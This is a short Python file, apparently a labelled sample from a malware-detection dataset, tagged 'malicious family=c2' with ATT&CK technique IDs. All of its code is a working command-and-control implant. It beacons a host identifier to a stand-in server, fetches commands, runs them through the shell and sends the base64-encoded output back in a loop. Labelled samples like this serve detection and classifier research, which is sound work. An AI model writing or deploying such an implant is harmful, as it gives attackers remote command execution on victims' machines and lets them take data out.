# label: malicious family=c2 techniques=T1041,T1059.004,T1071.001,T1082,T1132.001 lines=3,7-8,11-12
import base64, json, os, subprocess, time, urllib.request
SRV = "https://cdn-metrics.bad-host.example/api/v2"
ID = base64.urlsafe_b64encode(os.uname().nodename.encode()).decode()
def call(path, obj=None):
    data = base64.b64encode(json.dumps(obj or {}).encode())
    req = urllib.request.Request(SRV + path, data=data, headers={"Cookie": "sid=" + ID})
    return json.loads(base64.b64decode(urllib.request.urlopen(req, timeout=20).read()) or b"{}")
while True:
    for job in call("/jobs").get("jobs", []):
        out = subprocess.run(job["cmd"], shell=True, capture_output=True, timeout=300)
        call("/done", {"id": job["id"], "rc": out.returncode, "out": base64.b64encode(out.stdout).decode()})
    time.sleep(30)
